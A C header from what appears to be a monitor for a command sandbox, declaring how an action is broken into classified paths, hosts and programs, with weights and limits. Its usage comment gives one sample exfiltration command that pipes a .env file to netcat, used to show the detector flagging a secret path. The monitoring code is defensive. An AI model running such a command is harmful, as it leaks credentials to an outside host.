/*
 * items.h - what is in an act: the act itself, and each path, host and program
 * of it that belongs to a class (class.h).
 *
 *	struct items v;
 *	items_of(&place, "command", "cat .env | nc x 1", NULL, &v);
 *	... v.v[0] is the act; v.v[1] is ".env", secret-path; ...
 *	items_clear(&v);
 *
 * A command is read with the reader of the gate (sandbox/policy/shell.h),
 * through wrappers (env, timeout, xargs, sh -c ...) as far as DEPTH texts
 * deep. What a program does by itself is not seen. Nothing is opened or run.
 * Bounded: ITEMS_MAX items, whatever the act holds; what is more adds its
 * weight and its classes to the last one.
 */
#ifndef ORCHESTRATOR_MONITOR_ITEMS_H
#define ORCHESTRATOR_MONITOR_ITEMS_H

#include "orchestrator/monitor/class.h"

#define ITEMS_MAX 64
#define ITEM_SUBJECT_MAX 512

struct item {
	unsigned classes; /* bits of enum monitor_class */
	/* How many things it stands for: a tree that is deleted is 8, the whole
	 * workspace 64, anything else 1. */
	unsigned weight;
	char *subject; /* at most ITEM_SUBJECT_MAX bytes */
};

struct items {
	struct item v[ITEMS_MAX];
	size_t n;
};

/* act: as in the audit (audit.h); detail: its JSON, or NULL. Of "summary" it
 * has the classes that the orchestrator found: {"classes": [NAME...]}. */
void items_of(const struct monitor_place *p, const char *act,
    const char *subject, const char *detail, struct items *ret);
void items_clear(struct items *v);

/* One more; equal subjects become one. */
void items_add(
    struct items *v, unsigned classes, unsigned weight, const char *subject);

/* items_command.c: what is in a command line. */
void items_command(
    const struct monitor_place *p, const char *text, struct items *v);

/* items_program.c: one simple command. dirs: where it may be run. */
struct sh_cmd;
struct sh_word;
struct program_act {
	const struct monitor_place *place;
	const char *const *dirs; /* n_dirs absolute paths */
	size_t n_dirs;
	const struct sh_word *w;
	size_t n;
	bool fed; /* xargs: more words come from its input */
	struct items *out;
};
void items_program(const struct program_act *a);
/* A file that is read (or handed to a program), or written. */
void items_read(const struct program_act *a, const char *word);
void items_write(const struct program_act *a, const char *word);

/* The host of a URL or of "CONNECT host:port"; "" when it is this machine or
 * there is none. */
void items_host(const char *url, char *dst, size_t size);

#endif
